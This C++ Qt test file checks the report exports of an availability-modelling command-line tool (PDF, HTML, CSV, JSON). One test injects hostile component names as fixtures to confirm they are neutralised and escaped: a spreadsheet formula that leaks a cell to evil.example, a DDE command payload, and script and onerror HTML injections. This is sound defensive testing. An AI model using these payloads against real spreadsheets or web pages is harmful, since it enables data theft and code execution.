// `nines report`: each format written headless, checked for content: the PDF's text (pdftotext)
// holds the model's name, the availability figure and every component's name; the HTML holds
// the charts and tables; the CSV files parse with the right columns; the JSON is the simulate
// object plus the exact analysis and the assumptions.
#include "test_util.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QFileInfo>
#include <QTest>
#include <QXmlStreamReader>

#include <cmath>

using namespace nines::test;

namespace {

const QString kModel = QStringLiteral(NINES_RESOURCES_DIR "/examples/three-tier-web.nines.json");

QStringList reportArgs(const QString& out)
{
    return {QStringLiteral("report"), kModel, QStringLiteral("-o"), out, QStringLiteral("--replications"),
            QStringLiteral("200"), QStringLiteral("--seed"), QStringLiteral("11")};
}

/// How the report prints an availability: as many decimals as the first two significant digits
/// of the unavailability need, trailing zeros dropped.
QString reportPercent(double availability)
{
    const double u = 1 - availability;
    const int d = u > 0 ? std::clamp(int(std::ceil(-std::log10(u))) + 1, 3, 9) : 4;
    QString s = QString::number(100 * availability, 'f', d);
    while (s.endsWith(QLatin1Char('0')))
        s.chop(1);
    if (s.endsWith(QLatin1Char('.')))
        s.chop(1);
    return s + QLatin1Char('%');
}

/// RFC 4180 records of a whole CSV text (a quoted field may hold commas, quotes and newlines).
QList<QStringList> csvRecords(const QString& text)
{
    QList<QStringList> out;
    QStringList record;
    QString cur;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == QLatin1Char('"') && i + 1 < text.size() && text[i + 1] == QLatin1Char('"')) {
                cur += c;
                ++i;
            } else if (c == QLatin1Char('"')) {
                quoted = false;
            } else {
                cur += c;
            }
        } else if (c == QLatin1Char('"')) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            record << cur;
            cur.clear();
        } else if (c == QLatin1Char('\n')) {
            record << cur;
            cur.clear();
            out << record;
            record.clear();
        } else {
            cur += c;
        }
    }
    if (!cur.isEmpty() || !record.isEmpty())
        out << (record << cur);
    return out;
}

/// RFC 4180 fields of one CSV line.
QStringList csvFields(const QString& line)
{
    const QList<QStringList> records = csvRecords(line);
    return records.isEmpty() ? QStringList{QString()} : records.front();
}

}  // namespace

class TestReportCli : public QObject
{
    Q_OBJECT

    QTemporaryDir dir_;
    QJsonObject json_;  // the report's JSON, for the figures the other formats must show

    QString path(const char* name) const { return dir_.filePath(QString::fromLatin1(name)); }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(dir_.isValid());
        const NinesRun r = runNines(reportArgs(path("r.json")));
        QCOMPARE(r.exitCode, 0);
        json_ = QJsonDocument::fromJson(readAll(path("r.json"))).object();
        QVERIFY(!json_.isEmpty());
    }

    void jsonIsTheSimulateObjectPlusExactAndAssumptions()
    {
        const NinesRun sim = runNines({QStringLiteral("simulate"), kModel, QStringLiteral("--json"),
                                       QStringLiteral("--replications"), QStringLiteral("200"), QStringLiteral("--seed"),
                                       QStringLiteral("11")});
        QCOMPARE(sim.exitCode, 0);
        QJsonObject simulate = QJsonDocument::fromJson(sim.out).object();
        QJsonObject report = json_;
        simulate.remove(QStringLiteral("run"));
        report.remove(QStringLiteral("run"));
        QVERIFY(report.contains(QStringLiteral("exact")));
        const QJsonArray assumptions = report.take(QStringLiteral("assumptions")).toArray();
        report.remove(QStringLiteral("exact"));
        // The example has scenarios: the report compares them (base first).
        const QJsonObject comparison = report.take(QStringLiteral("comparison")).toObject();
        const QJsonArray designs = comparison.value(QStringLiteral("scenarios")).toArray();
        QCOMPARE(designs.size(), 5);
        QVERIFY(designs.at(0).toObject().value(QStringLiteral("scenario")).isNull());
        QCOMPARE(report, simulate);
        QVERIFY(assumptions.size() > 10);
        for (const QJsonValue& a : assumptions)
            QVERIFY(!a.toObject().value(QStringLiteral("source")).toString().isEmpty());
    }

    void pdfTextHoldsNameFigureAndComponents()
    {
        const NinesRun r = runNines(reportArgs(path("r.pdf")));
        QCOMPARE(r.exitCode, 0);
        QVERIFY(readAll(path("r.pdf")).startsWith("%PDF"));
        QProcess text;
        text.start(QStringLiteral("pdftotext"), {QStringLiteral("-layout"), path("r.pdf"), QStringLiteral("-")});
        QVERIFY(text.waitForFinished(60000));
        QCOMPARE(text.exitCode(), 0);
        const QString t = QString::fromUtf8(text.readAllStandardOutput());
        QVERIFY(t.contains(QStringLiteral("Three-tier web application")));
        const double availability =
            json_.value(QStringLiteral("availability")).toObject().value(QStringLiteral("mean")).toDouble();
        QVERIFY2(t.contains(reportPercent(availability)), qPrintable(reportPercent(availability)));
        // Every component by name, the charts' titles, the assumptions and the seed to reproduce.
        for (const char* name : {"Shoppers", "Load balancer pair", "Application servers", "Cache", "PostgreSQL cluster"})
            QVERIFY2(t.contains(QString::fromUtf8(name)), name);
        for (const char* heading : {"Headline", "Topology", "Downtime per year", "Components: down and needed",
                                    "Scenario comparison", "Three zones",
                                    "Scenarios: cost of ownership against availability", "Downtime per month",
                                    "Cost of ownership", "Expected SLA credits paid per year", "Assumptions", "Run settings"})
            QVERIFY2(t.contains(QString::fromUtf8(heading)), heading);
        QVERIFY(t.contains(QRegularExpression(QStringLiteral("Seed\\s+11"))));
        QVERIFY(t.contains(QStringLiteral("page 1 of")));
    }

    // A heading sat alone at the bottom of a page, its table or drawing on the next ("Topology",
    // "Scenario comparison"): no page ends with a heading.
    void pdfHeadingsStayWithWhatTheyHead()
    {
        if (!QFileInfo::exists(path("r.pdf")))
            QCOMPARE(runNines(reportArgs(path("r.pdf"))).exitCode, 0);
        QProcess text;
        text.start(QStringLiteral("pdftotext"), {path("r.pdf"), QStringLiteral("-")});
        QVERIFY(text.waitForFinished(60000));
        QCOMPARE(text.exitCode(), 0);
        const QStringList pages = QString::fromUtf8(text.readAllStandardOutput()).split(QLatin1Char('\f'));
        QVERIFY(pages.size() > 5);
        const QStringList headings = {QStringLiteral("Headline"), QStringLiteral("Topology"), QStringLiteral("Components"),
                                      QStringLiteral("Cost of ownership"), QStringLiteral("Capacity headroom at peak"),
                                      QStringLiteral("Data stores: CP or AP"), QStringLiteral("Scenario comparison"),
                                      QStringLiteral("Scenario comparison: cost and capacity"), QStringLiteral("Assumptions"),
                                      QStringLiteral("Run settings (to reproduce these figures)"),
                                      QStringLiteral("Downtime per year"), QStringLiteral("How long outages last"),
                                      QStringLiteral("Downtime per month"), QStringLiteral("Load as it grows")};
        int checked = 0;
        for (qsizetype p = 0; p < pages.size(); ++p) {
            QStringList lines;
            for (const QString& l : pages[p].split(QLatin1Char('\n')))
                if (!l.trimmed().isEmpty() && !l.contains(QStringLiteral("availability report \u00b7"))
                    && !l.trimmed().startsWith(QStringLiteral("page ")))
                    lines << l.trimmed();
            if (lines.isEmpty())
                continue;
            ++checked;
            QVERIFY2(!headings.contains(lines.last()), qPrintable(QStringLiteral("page %1 ends with the heading '%2'").arg(p + 1).arg(lines.last())));
        }
        QVERIFY(checked > 5);
    }

    void htmlHoldsChartsAndTables()
    {
        const NinesRun r = runNines(reportArgs(path("r.html")));
        QCOMPARE(r.exitCode, 0);
        const QString html = QString::fromUtf8(readAll(path("r.html")));
        QVERIFY(html.startsWith(QStringLiteral("<!DOCTYPE html>")));
        // Self-contained: the figures are inline SVG, nothing is fetched.
        const qsizetype figures = html.count(QStringLiteral("src=\"data:image/svg+xml;base64,"));
        QVERIFY2(figures >= 6, qPrintable(QString::number(figures)));
        QVERIFY(!html.contains(QStringLiteral("http://")) || html.contains(QStringLiteral("www.w3.org")));
        QVERIFY(html.count(QStringLiteral("<table>")) >= 5);
        QVERIFY(html.contains(QStringLiteral("<th>Down and needed</th>")));
        QVERIFY(html.contains(QStringLiteral("PostgreSQL cluster")));
        // The SVG of a chart decodes and carries its axis label.
        const QRegularExpression img(QStringLiteral("<h2>Downtime per year</h2>\\s*<figure>\\s*<img alt=\"[^\"]*\" "
                                                    "src=\"data:image/svg\\+xml;base64,([A-Za-z0-9+/=]+)\""));
        const auto m = img.match(html);
        QVERIFY(m.hasMatch());
        const QByteArray svg = QByteArray::fromBase64(m.captured(1).toLatin1());
        QVERIFY(svg.contains("<svg"));
        QVERIFY(svg.contains("Downtime in a year"));
    }

    void csvTablesParse()
    {
        const NinesRun r = runNines(reportArgs(path("r.csv")));
        QCOMPARE(r.exitCode, 0);
        QVERIFY(r.outText().contains(QStringLiteral("r-components.csv")));
        const QStringList components =
            QString::fromUtf8(readAll(path("r-components.csv"))).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        QVERIFY(components.size() >= 2);
        const QStringList header = csvFields(components.front());
        QCOMPARE(header.front(), QStringLiteral("Component"));
        QVERIFY(header.contains(QStringLiteral("Down and needed")));
        QCOMPARE(components.size() - 1, json_.value(QStringLiteral("components")).toArray().size());
        for (const QString& line : components)
            QCOMPARE(csvFields(line).size(), header.size());
        // Numbers are plain numbers (no thousands separators), so spreadsheets read them.
        const QStringList headline =
            QString::fromUtf8(readAll(path("r-headline.csv"))).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        const QStringList downtime = csvFields(headline[3]);
        QVERIFY2(downtime[0].startsWith(QStringLiteral("Downtime")), qPrintable(headline[3]));
        bool ok = false;
        const double minutes = downtime[1].toDouble(&ok);
        QVERIFY2(ok, qPrintable(downtime[1]));
        QCOMPARE(std::round(minutes * 10) / 10,
                 std::round(json_.value(QStringLiteral("downtime_minutes_per_year")).toObject().value(QStringLiteral("mean")).toDouble() * 10) / 10);
        for (const char* table : {"headline", "components", "capacity", "cap", "comparison", "assumptions", "run"})
            QVERIFY2(QFile::exists(path("r-") + QString::fromLatin1(table) + QStringLiteral(".csv")), table);
    }

    // Names that attack their reader go through every export format: CSV cells a spreadsheet
    // would run as formulas are neutralised, HTML and its SVG charts escape every user string, JSON keeps them
    // exactly, nothing is cut in the middle of a character.
    void hostileNamesAreSafeInEveryFormat()
    {
        QFile in(kModel);
        QVERIFY(in.open(QIODevice::ReadOnly));
        QJsonObject doc = QJsonDocument::fromJson(in.readAll()).object();
        const QString longName = QString(10000, QChar(0xe9));  // é, two bytes in UTF-8
        const QStringList names = {QStringLiteral("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")"),
                                   QStringLiteral("<script>alert('x')</script>"),
                                   QStringLiteral("+cmd|' /C calc'!A0"),
                                   QStringLiteral("@SUM(1,2)\nsecond \"line\"\r"),
                                   longName};
        QJsonArray comps = doc.value(QStringLiteral("components")).toArray();
        QCOMPARE(comps.size(), names.size());
        for (qsizetype i = 0; i < comps.size(); ++i) {
            QJsonObject c = comps[i].toObject();
            c.insert(QStringLiteral("name"), names[i]);
            comps[i] = c;
        }
        doc.insert(QStringLiteral("components"), comps);
        doc.insert(QStringLiteral("name"), QStringLiteral("-2+3 <img src=x onerror=alert(1)>"));
        const QString model = path("hostile.nines.json");
        QFile out(model);
        QVERIFY(out.open(QIODevice::WriteOnly));
        out.write(QJsonDocument(doc).toJson());
        out.close();
        auto run = [&](const char* file) {
            const NinesRun r = runNines({QStringLiteral("report"), model, QStringLiteral("-o"), path(file),
                                         QStringLiteral("--replications"), QStringLiteral("40")});
            QVERIFY2(r.exitCode == 0, qPrintable(r.err));
            QVERIFY2(r.err.isEmpty(), qPrintable(r.err));  // nothing on stderr but its own messages
        };
        run("h.csv");
        run("h.html");
        run("h.json");
        run("h.pdf");
        static const QRegularExpression number(QStringLiteral("^[-+]?(\\d+(\\.\\d*)?|\\.\\d+)([eE][-+]?\\d+)?%?$"));
        int files = 0, neutralised = 0;
        for (const QFileInfo& f : QDir(dir_.path()).entryInfoList({QStringLiteral("h-*.csv")})) {
            ++files;
            const QByteArray bytes = readAll(f.filePath());
            const QString text = QString::fromUtf8(bytes);
            QVERIFY2(!text.contains(QChar::ReplacementCharacter) && text.toUtf8() == bytes, qPrintable(f.fileName()));
            for (const QStringList& rec : csvRecords(text))
                for (const QString& cell : rec) {
                    if (cell.startsWith(QLatin1Char('\'')))
                        ++neutralised;
                    const bool risky = !cell.isEmpty() && QStringLiteral("=+-@\t\r").contains(cell.front());
                    QVERIFY2(!risky || number.match(cell).hasMatch(),
                             qPrintable(f.fileName() + QStringLiteral(": ") + cell.left(80)));
                }
        }
        QVERIFY(files >= 5);
        QVERIFY(neutralised >= 3);
        const QByteArray htmlBytes = readAll(path("h.html"));
        const QString html = QString::fromUtf8(htmlBytes);
        QVERIFY(!html.contains(QChar::ReplacementCharacter) && html.toUtf8() == htmlBytes);
        QVERIFY(!html.contains(QStringLiteral("<script>")));
        QVERIFY(!html.contains(QStringLiteral("<img src=x")));
        QVERIFY(html.contains(QStringLiteral("&lt;script&gt;")));
        QVERIFY(html.contains(longName));
        // The charts are SVG inside the HTML (the criticality chart names every component): each
        // is well-formed XML with no element but drawing ones, whatever the names hold.
        static const QRegularExpression svgData(QStringLiteral("data:image/svg\\+xml;base64,([A-Za-z0-9+/=]+)"));
        int svgs = 0;
        bool namesDrawn = false;
        for (auto it = svgData.globalMatch(html); it.hasNext();) {
            const QByteArray svg = QByteArray::fromBase64(it.next().captured(1).toLatin1());
            ++svgs;
            namesDrawn = namesDrawn || svg.contains("&lt;script&gt;");
            QXmlStreamReader xml(svg);
            while (!xml.atEnd())
                if (xml.readNext() == QXmlStreamReader::StartElement)
                    QVERIFY2(xml.name() != QLatin1String("script") && xml.name() != QLatin1String("img")
                                 && xml.name() != QLatin1String("foreignObject"),
                             qPrintable(xml.name().toString()));
            QVERIFY2(!xml.hasError(), qPrintable(xml.errorString()));
        }
        QVERIFY(svgs >= 3);
        QVERIFY(namesDrawn);  // the names are in the charts, escaped
        const QJsonObject json = QJsonDocument::fromJson(readAll(path("h.json"))).object();
        QVERIFY(!json.isEmpty());
        bool longKept = false;
        for (const QJsonValue& a : json.value(QStringLiteral("assumptions")).toArray())
            longKept = longKept || a.toObject().value(QStringLiteral("name")).toString() == longName;
        QVERIFY(longKept);
        QVERIFY(readAll(path("h.pdf")).startsWith("%PDF"));
    }

    // The CSV tables are one report: when one of them cannot be written (here its name is taken
    // by a directory), none of the old files is replaced, not only the ones after it.
    void csvTablesAreReplacedTogetherOrNotAtAll()
    {
        const QStringList tables = {QStringLiteral("headline"), QStringLiteral("components"), QStringLiteral("capacity"),
                                    QStringLiteral("comparison"), QStringLiteral("assumptions"), QStringLiteral("run")};
        for (const QString& t : tables) {
            QFile f(path("set-") + t + QStringLiteral(".csv"));
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write("old\n");
        }
        QVERIFY(QDir(dir_.path()).mkdir(QStringLiteral("set-cap.csv")));  // the fourth table's name
        const NinesRun r = runNines({QStringLiteral("report"), kModel, QStringLiteral("-o"), path("set.csv"),
                                     QStringLiteral("--replications"), QStringLiteral("20")});
        QCOMPARE(r.exitCode, 1);
        QVERIFY2(r.err.contains(QStringLiteral("set-cap.csv")), qPrintable(r.err));
        for (const QString& t : tables)
            QVERIFY2(readAll(path("set-") + t + QStringLiteral(".csv")) == "old\n", qPrintable(t));
        QVERIFY(QDir(dir_.path()).rmdir(QStringLiteral("set-cap.csv")));
        const NinesRun again = runNines({QStringLiteral("report"), kModel, QStringLiteral("-o"), path("set.csv"),
                                         QStringLiteral("--replications"), QStringLiteral("20")});
        QCOMPARE(again.exitCode, 0);
        for (const QString& t : tables)
            QVERIFY2(readAll(path("set-") + t + QStringLiteral(".csv")) != "old\n", qPrintable(t));
    }

    void badOutputIsRefused()
    {
        NinesRun r = runNines({QStringLiteral("report"), kModel, QStringLiteral("-o"), path("r.docx")});
        QCOMPARE(r.exitCode, 2);
        QVERIFY(r.err.contains(QStringLiteral(".pdf, .html, .csv or .json")));
        r = runNines({QStringLiteral("report"), kModel});
        QCOMPARE(r.exitCode, 2);
        r = runNines({QStringLiteral("report"), kModel, QStringLiteral("-o"), QStringLiteral("/nonexistent/dir/r.pdf"),
                      QStringLiteral("--replications"), QStringLiteral("20")});
        QCOMPARE(r.exitCode, 1);
        QVERIFY(r.err.contains(QStringLiteral("cannot write")));
    }
};

QTEST_GUILESS_MAIN(TestReportCli)
#include "tst_report_cli.moc"
